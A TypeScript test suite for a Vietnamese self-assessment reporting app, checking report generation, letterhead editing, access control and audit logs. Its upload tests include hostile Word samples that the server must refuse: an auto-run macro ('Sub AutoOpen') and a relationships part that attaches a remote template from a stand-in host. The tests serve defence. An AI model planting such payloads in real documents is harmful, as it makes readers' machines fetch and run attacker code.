/** Official documents over HTTP: every answer in them, for those who see it on the screen, under the unit's letterhead. */
import { type Block, readDocument } from "@opendti/documents";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { docx, formOf } from "../files/form.js";
import { ask, type Person, type RunningApp, startApp } from "../running/app.js";
import { type Appraising, acting, appraising, judge, openQuestion } from "../running/appraising.js";
import { realUnit } from "../running/campaign.js";
import { approvedRun } from "../running/results.js";
import { type SmallProvince, smallProvince } from "../running/units.js";

let app: RunningApp;
let units: SmallProvince;
let here: Appraising;

beforeAll(async () => {
  app = await startApp();
  units = await smallProvince(app.db);
  here = await appraising(app, units);
}, 60_000);
afterAll(() => app.close());

interface File {
  readonly status: number;
  readonly bytes: Buffer;
  readonly type: string;
  readonly disposition: string;
  readonly problem: { readonly code?: string; readonly detail?: string };
}

/** A document's bytes: asked for past the helper that reads answers as text. */
async function take(person: Person, path: string): Promise<File> {
  const answer = await app.server.inject({
    method: "GET",
    url: `/api/v1${path}`,
    headers: { host: "localhost", cookie: person.cookie },
  });
  return {
    status: answer.statusCode,
    bytes: answer.rawPayload,
    type: String(answer.headers["content-type"]),
    disposition: String(answer.headers["content-disposition"]),
    problem: answer.statusCode < 400 ? {} : answer.json(),
  };
}

/** Every word of a Word file, in its order. */
async function wordsIn({ bytes }: File): Promise<string> {
  const { blocks } = await readDocument(bytes, "van-ban.docx");
  const textOf = (block: Block): string =>
    block.kind === "table"
      ? block.table.rows.map((row) => row.map((cell) => cell?.text ?? "").join("\t")).join("\n")
      : block.text;
  return blocks.map(textOf).join("\n");
}

const report = (assessment: string, kind: string): string => `/assessments/${assessment}/reports/${kind}`;

describe("the report of a self-assessment", () => {
  it("reads back with every declared text and the total that the screen shows", async () => {
    const file = await take(here.head, report(here.own, "self-assessment"));
    expect(file.status).toBe(200);
    const words = await wordsIn(file);
    const { body } = await here.head.get(`/assessments/${here.own}/check`);
    expect(words).toContain(String(body.total).replace(".", ","));
    for (const value of Object.values(realUnit.profile))
      if (typeof value === "string") expect(words).toContain(value);
    for (const code of Object.keys(realUnit.answers)) expect(words).toContain(code);
  });

  it("comes as PDF too, under a name that says what it is, with its marks and without", async () => {
    const file = await take(
      here.roomOfficer,
      `${report(here.own, "self-assessment")}?form=pdf&day=2026-11-20`,
    );
    expect(file.type).toBe("application/pdf");
    expect(file.bytes.subarray(0, 5).toString("latin1")).toBe("%PDF-");
    expect(file.disposition).toContain('filename="Bao cao tu danh gia - So Mot - 2026.pdf"');
    expect(decodeURIComponent(file.disposition)).toContain("UTF-8''Báo cáo tự đánh giá - Sở Một - 2026.pdf");
  });

  it("leaves the day free until it is said, and then writes it in words", async () => {
    const free = await wordsIn(await take(here.head, report(here.own, "self-assessment")));
    expect(free).toMatch(/Minh Họa, ngày\s+tháng 11 năm 2026/);
    const dated = `${report(here.own, "self-assessment")}?day=2026-11-20&number=12`;
    const words = await wordsIn(await take(here.head, dated));
    expect(words).toContain("Minh Họa, ngày 20 tháng 11 năm 2026");
    expect(words).toContain("12/SM-VP");
  });
});

describe("a letterhead", () => {
  const url = () => `/units/${units.department}/letterhead`;

  it("is what a unit of the name usually has, until its people keep their own", async () => {
    const { body } = await here.head.get(url());
    expect(body).toMatchObject({
      version: 0,
      mayChange: true,
      letterhead: { body: "Sở Một", place: "Minh Họa", signer: { head: "Giám đốc", name: "" } },
    });
    const own = { ...body.letterhead, superior: "UBND tỉnh Minh Họa Mới", to: ["Sở Hai"] };
    own.signer = { ...own.signer, form: "deputy", office: "Phó Giám đốc", name: "Người Ký Thử" };
    const kept = await here.office.send("PUT", url(), own, { "if-match": '"0"' });
    expect(kept.body).toMatchObject({ version: 1, letterhead: { to: ["Sở Hai"] } });
    const words = await wordsIn(await take(here.head, report(here.own, "self-assessment")));
    for (const part of ["UBND TỈNH MINH HỌA MỚI", "Sở Hai", "KT. GIÁM ĐỐC", "PHÓ GIÁM ĐỐC", "Người Ký Thử"])
      expect(words).toContain(part);
  });

  it("addresses whoever coordinates, and of whoever does that the province", async () => {
    await app.account("dieu.phoi.so", ["coordinator", units.other]);
    const lettersOf = async (unit: string) =>
      (await here.coordinator.get(`/units/${unit}/letterhead`)).body.letterhead.to;
    expect(await lettersOf(units.commune)).toEqual(["Sở Hai"]);
    expect(await lettersOf(units.other)).toEqual(["Tỉnh Minh Họa"]);
    expect(await lettersOf(units.province)).toEqual(["Sở Hai"]);
  });

  it("is not overwritten by whoever has not seen it", async () => {
    const { body } = await here.head.get(url());
    const stale = await here.head.send("PUT", url(), body.letterhead, { "if-match": '"0"' });
    expect(stale.body.code).toBe("changed-meanwhile");
  });

  it("names its signer to the audit log at no time", async () => {
    const events = await app.db
      .selectFrom("audit_event")
      .where("action", "=", "letterhead.change")
      .select(["before", "after"])
      .execute();
    expect(events).toHaveLength(1);
    expect(JSON.stringify(events)).toContain("UBND tỉnh Minh Họa Mới");
    expect(JSON.stringify(events)).not.toContain("Người Ký Thử");
  });
});

describe("documents of appraising", () => {
  it("are told to the unit when it is told, and to whoever sees everything before", async () => {
    const reason = "Văn bản ký năm 2025 không tính cho năm đánh giá";
    const judged = await judge(here.specialist, here.own, "2.1.3", 0, {
      verdict: "adjusted",
      inputs: { a: "20" },
      reason,
    });
    expect(judged.status).toBe(200);
    for (const person of [here.head, here.office, here.roomOfficer]) {
      const refused = await take(person, report(here.own, "appraisal-minutes"));
      expect(refused.problem.code).toBe("forbidden");
    }
    expect((await take(here.otherHead, report(here.own, "appraisal-minutes"))).status).toBe(404);
    const words = await wordsIn(await take(here.observer, report(here.own, "appraisal-minutes")));
    for (const part of [reason, "9,56", "8,7", "Thẩm định viên"]) expect(words).toContain(part);
    // The unit's own report tells what it declared, and not what was judged.
    const own = await wordsIn(await take(here.head, report(here.own, "self-assessment")));
    expect(own).not.toContain(reason);
  });

  it("tell the unit's explanations without the points that it is not told yet", async () => {
    await openQuestion(app, here.own, "2.1.3");
    const told = await wordsIn(await take(here.observer, report(here.own, "explanation")));
    const untold = await wordsIn(await take(here.head, report(here.own, "explanation")));
    for (const words of [told, untold]) expect(words).toContain("Vì sao?");
    expect(told).toContain("8,7");
    expect(untold).not.toContain("8,7");
  });

  it("wait for the submission", async () => {
    await acting(here.coordinator, here.other, "return", { reason: "Thiếu tài liệu" });
    for (const person of [here.observer, here.otherHead]) {
      const early = await take(person, report(here.other, "appraisal-minutes"));
      expect(early.problem).toMatchObject({
        code: "state-refused",
        detail: expect.stringContaining("sau khi phiếu được nộp"),
      });
    }
  });
});

/** A template that asks another machine for a part of itself. */
const CALLING_HOME = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://xa.example/mau.dotm" TargetMode="External"/></Relationships>`;

describe("a template of the province", () => {
  const send = (person: Person, name: string, bytes: Buffer) => {
    const form = formOf(name, bytes);
    return ask(app, {
      method: "POST",
      url: "/api/v1/report-templates",
      headers: { ...form.headers, cookie: person.cookie, "x-csrf-token": person.csrfToken },
      payload: form.payload,
    });
  };

  it("is filled with every answer for whoever prints by it, in Word alone", async () => {
    const example = await take(here.coordinator, "/report-templates/example");
    const brought = await send(here.coordinator, "mau-tinh.docx", example.bytes);
    expect(brought.body).toMatchObject({ name: "mau-tinh.docx", findings: [] });
    const { items } = (await here.roomOfficer.get("/report-templates")).body;
    const path = `${report(here.own, "self-assessment")}?template=${items[0].id}`;
    const words = await wordsIn(await take(here.roomOfficer, path));
    for (const code of Object.keys(realUnit.answers)) expect(words).toContain(code);
    expect(words).toContain("51.125.000");
    expect((await take(here.head, `${path}&form=pdf`)).problem.code).toBe("content-refused");
  });

  it.each([
    ["van-ban.txt", Buffer.from("không phải gói nén")],
    ["hong.docx", Buffer.from("PK\u0003\u0004 hỏng")],
    ["rong.docx", Buffer.alloc(0)],
    ["macro.docx", docx({ name: "word/vbaProject.bin", content: "Sub AutoOpen" })],
    ["goi-ve.docx", docx({ name: "word/_rels/document.xml.rels", content: CALLING_HOME })],
  ])("%s is refused with the reason, and nothing is kept", async (name, bytes) => {
    const before = (await here.coordinator.get("/report-templates")).body.items.length;
    const sent = await send(here.coordinator, name, bytes);
    expect(sent.body).toMatchObject({ code: "upload-refused", detail: expect.stringMatching(/.{20}/) });
    expect((await here.coordinator.get("/report-templates")).body.items).toHaveLength(before);
  });

  it("is thrown away by whoever coordinates, and the log tells both", async () => {
    const { items } = (await here.coordinator.get("/report-templates")).body;
    const url = `/report-templates/${items[0].id}`;
    expect((await here.observer.send("DELETE", url)).body.code).toBe("forbidden");
    expect((await here.coordinator.send("DELETE", url)).status).toBe(204);
    const events = await app.db
      .selectFrom("audit_event")
      .where("subject_type", "=", "report-template")
      .select("action")
      .orderBy("id")
      .execute();
    expect(events.map(({ action }) => action)).toEqual(["report-template.create", "report-template.delete"]);
  });
});

describe("the documents of a run", () => {
  const of = (run: string, kind: string): string => `/runs/${run}/reports/${kind}`;
  let run: string;

  beforeAll(async () => {
    await approvedRun(app, here.campaign.id, here.campaign.assessments);
    ({ id: run } = await app.db.selectFrom("run").select("id").executeTakeFirstOrThrow());
  });

  it("rank the units in the decision of whoever decides", async () => {
    const words = await wordsIn(await take(here.observer, of(run, "result-decision")));
    for (const part of ["QUYẾT ĐỊNH", "CHỦ TỊCH ỦY BAN NHÂN DÂN TỈNH MINH HỌA", "Như Điều 3", "485"])
      expect(words).toContain(part);
    expect(words).not.toContain("TM. ỦY BAN NHÂN DÂN");
  });

  it("put the result before whoever decides, with its tables, from whoever was chosen to propose", async () => {
    const proposer = `?proposer=${units.other}&number=45`;
    const report = await wordsIn(await take(here.coordinator, of(run, `result-report${proposer}`)));
    for (const part of ["BÁO CÁO", "45/BC-SH", "Ủy ban nhân dân tỉnh Minh Họa", "Hạng", "485", "SỞ HAI"])
      expect(report).toContain(part);
    const file = await take(here.coordinator, of(run, `result-proposal${proposer}`));
    const proposal = await wordsIn(file);
    for (const part of ["TỜ TRÌNH", "45/TTr-SH", "Sở Hai kính trình Ủy ban nhân dân tỉnh Minh Họa"])
      expect(proposal).toContain(part);
    expect(decodeURIComponent(file.disposition)).toContain("UTF-8''Tờ trình công bố kết quả - ");
  });

  it.each(["result-decision", "result-report", "result-proposal"])(
    "are nobody's who does not see the run: %s",
    async (kind) => {
      expect((await take(here.head, of(run, kind))).problem.code).toBe("forbidden");
    },
  );
});
